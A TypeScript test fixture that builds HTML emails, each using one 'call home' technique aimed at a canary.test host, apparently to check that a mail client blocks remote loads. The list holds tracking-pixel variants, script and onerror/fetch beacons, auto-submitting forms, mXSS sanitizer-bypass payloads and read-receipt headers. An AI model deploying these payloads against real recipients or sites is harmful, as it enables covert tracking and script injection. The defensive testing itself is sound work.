// Ways a mail can call home (docs/security.md, S1), one canary name each, so that a leak names its technique.

export interface Technique {
  id: string
  html: string
  /** Further header lines of the mail. */
  headers?: string
}

/** The host whose look-up or visit gives a technique away. */
export const CANARY_ZONE = 'canary.test'

/** `$U` stands for the technique's own URL, `$H` for its host. */
const HTML: Record<string, string> = {
  'img-src': '<img src="$U/a.png">',
  'img-srcset': '<img srcset="$U/a.png 1x, $U/b.png 2x">',
  'picture-source': '<picture><source srcset="$U/a.webp"><img alt=""></picture>',
  'input-image': '<input type="image" src="$U/a.png">',
  'body-background': '<body background="$U/a.png">',
  'td-background': '<table background="$U/t.png"><tr><td background="$U/a.png">x</td></tr></table>',
  'video-poster': '<video poster="$U/a.png" src="$U/a.mp4" autoplay></video>',
  'audio-src': '<audio src="$U/a.mp3" autoplay></audio>',
  'track-src': '<video autoplay><source src="$U/a.mp4"><track default src="$U/a.vtt"></video>',
  embed: '<embed src="$U/a.swf">',
  object: '<object data="$U/a.svg"></object>',
  iframe: '<iframe src="$U/"></iframe>',
  'iframe-srcdoc': '<iframe srcdoc="&lt;img src=$U/a.png&gt;"></iframe>',
  frame: '<frameset><frame src="$U/"></frameset>',
  script: '<script src="$U/a.js"></script>',
  'script-module': '<script type="module">import "$U/a.js"</script>',
  stylesheet: '<link rel="stylesheet" href="$U/a.css">',
  'alternate-stylesheet': '<link rel="alternate stylesheet" href="$U/a.css">',
  icon: '<link rel="icon" href="$U/a.ico">',
  preload: '<link rel="preload" as="image" href="$U/a.png">',
  modulepreload: '<link rel="modulepreload" href="$U/a.js">',
  prefetch: '<link rel="prefetch" href="$U/a.html">',
  prerender: '<link rel="prerender" href="$U/a.html">',
  preconnect: '<link rel="preconnect" href="$U">',
  'dns-prefetch': '<link rel="dns-prefetch" href="//$H">',
  'dns-prefetch-on': '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="$U/">a link</a>',
  manifest: '<link rel="manifest" href="$U/a.json">',
  'base-href': '<base href="$U/"><img src="relative.png">',
  'meta-refresh': '<meta http-equiv="refresh" content="0;url=$U/">',
  'meta-refresh-later': '<meta http-equiv="refresh" content="1;url=$U/">',
  'meta-csp-report':
    '<meta http-equiv="Content-Security-Policy" content="img-src none; report-uri $U/"><img src="x.png">',
  'form-autofocus': '<form action="$U/"><input autofocus onfocus="this.form.submit()"></form>',
  'details-toggle': '<details open ontoggle="new Image().src=\'$U/a.png\'"><img src="$U/b.png"></details>',
  onerror: '<img src="data:," onerror="fetch(\'$U/\')">',
  'svg-image': '<svg width="10" height="10"><image href="$U/a.png" width="10" height="10"/></svg>',
  'svg-image-xlink':
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="$U/a.png" width="9" height="9"/></svg>',
  'svg-use': '<svg><use href="$U/a.svg#x"/></svg>',
  'svg-feimage':
    '<svg><filter id="f"><feImage href="$U/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
  'svg-style': '<svg><style>@import "$U/a.css";</style></svg>',
  'svg-foreign': '<svg><foreignObject width="9" height="9"><img src="$U/a.png"></foreignObject></svg>',
  'svg-animate':
    '<svg><image width="9" height="9"><animate attributeName="href" values="$U/a.png"/></image></svg>',
  'style-background': '<p style="background:url($U/a.png)">x</p>',
  'style-background-image': '<p style="background-image:url(\'$U/a.png\')">x</p>',
  'style-list': '<ul style="list-style:url($U/a.png)"><li>x</ul>',
  'style-content': '<style>p::before{content:url($U/a.png)}</style><p>x</p>',
  'style-border-image': '<p style="border:9px solid;border-image:url($U/a.png) 9">x</p>',
  'style-mask': '<p style="mask:url($U/a.svg#m);-webkit-mask-image:url($U/b.png)">x</p>',
  'style-cursor': '<p style="cursor:url($U/a.cur),auto">hover</p>',
  'style-filter': '<p style="filter:url($U/a.svg#f)">x</p>',
  'style-clip-path': '<p style="clip-path:url($U/a.svg#c)">x</p>',
  'style-shape-outside': '<p style="float:left;shape-outside:url($U/a.png)">x</p>',
  'style-image-set': '<p style="background:image-set(\'$U/a.png\' 1x)">x</p>',
  'style-webkit-image-set': '<p style="background:-webkit-image-set(url($U/a.png) 1x)">x</p>',
  'style-escaped': '<p style="background:u\\72l($U/a.png)">x</p>',
  'style-comment': '<p style="background:/**/url(/**/$U/a.png)">x</p>',
  'style-import': '<style>@import "$U/a.css";</style>',
  'style-import-url': '<style>@import url($U/a.css) layer(x);</style>',
  'style-import-supports': '<style>@import url("$U/a.css") supports(display:grid) screen;</style>',
  'style-font': '<style>@font-face{font-family:c;src:url($U/a.woff2)}p{font-family:c}</style><p>x</p>',
  'style-var': '<style>p{--a:url($U/a.png);background:var(--a)}</style><p>x</p>',
  'style-media': '<style>@media screen{p{background:url($U/a.png)}}</style><p>x</p>',
  'style-supports': '<style>@supports(display:grid){p{background:url($U/a.png)}}</style><p>x</p>',
  'style-layer': '<style>@layer a{p{background:url($U/a.png)}}</style><p>x</p>',
  'style-hover': '<style>p:hover{background:url($U/a.png)}</style><p>hover me</p>',
  'style-print': '<style>@media print{p{background:url($U/a.png)}}</style><p>x</p>',
  'style-attribute':
    '<style>a[href^="h"]{background:url($U/a.png)}</style><a href="https://example.org">x</a>',
  'style-selection': '<style>::selection{background:url($U/a.png)}</style><p>x</p>',
  'style-page': '<style>@page{background:url($U/a.png)}</style><p>x</p>',
  'style-counter':
    '<style>@counter-style c{system:cyclic;symbols:url($U/a.png)}ul{list-style:c}</style><ul><li>x</ul>',
  'mxss-noscript': '<noscript><p title="</noscript><img src=$U/a.png>"></noscript>',
  'mxss-math': '<math><mtext><table><mglyph><style><img src="$U/a.png">',
  'mxss-template': '<template><img src="$U/a.png"></template><svg><title><style><img src=$U/b.png>',
  'protocol-relative': '<img src="//$H/a.png">',
  backslashes: '<img src="\\\\$H\\a.png">',
  'tab-in-scheme': '<img src="ht\ttp://$H/a.png">',
  'link-ping': '<a href="https://example.org/" ping="$U/">x</a>',
  'speculation-rules': '<script type="speculationrules">{"prefetch":[{"urls":["$U/"]}]}</script>',
  vml: '<v:rect><v:fill src="$U/a.png"/><v:imagedata src="$U/b.png"/></v:rect>',
  lowsrc: '<img lowsrc="$U/a.png" dynsrc="$U/b.png" longdesc="$U/c">',
  'xml-stylesheet': '<?xml-stylesheet href="$U/a.xsl" type="text/xsl"?><p>x</p>',
  'portal-fencedframe': '<portal src="$U/"></portal><fencedframe src="$U/"></fencedframe>',
  marquee: '<marquee onstart="new Image().src=\'$U/a.png\'">x</marquee>',
}

const HEADERS: Record<string, string> = {
  receipt:
    'Disposition-Notification-To: <spy@$H>\r\nReturn-Receipt-To: <spy@$H>\r\nX-Confirm-Reading-To: <spy@$H>',
  'face-url': 'X-Image-URL: $U/face.png\r\nList-Icon: <$U/icon.png>',
  bimi: 'BIMI-Location: v=BIMI1; l=$U/bimi.svg',
  'openpgp-url': 'OpenPGP: id=0xDEADBEEF; url=$U/key.asc',
}

const fill = (text: string, id: string): string => {
  const host = `${id}.${CANARY_ZONE}`
  return text.replaceAll('$U', `http://${host}`).replaceAll('$H', host)
}

export const TECHNIQUES: readonly Technique[] = [
  ...Object.entries(HTML).map(([id, html]) => ({ id, html: fill(html, id) })),
  ...Object.entries(HEADERS).map(([id, headers]) => ({ id, html: '<p>x</p>', headers: fill(headers, id) })),
]

/** The technique as a mail; `words` stand in its text, so that a test sees that it was shown. */
export function callHomeMail({ id, html, headers }: Technique, words: string): Uint8Array {
  const lines = [
    `From: Spy <spy@${id}.${CANARY_ZONE}>`,
    'To: alice@example.org',
    `Subject: ${words}`,
    `Message-ID: <${id}@${CANARY_ZONE}>`,
    'Date: Sun, 01 Nov 2026 10:00:00 +0000',
    ...(headers ? [headers] : []),
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    `<html><head></head><p>${words}</p>${html}</html>`,
    '',
  ]
  return Buffer.from(lines.join('\r\n'))
}
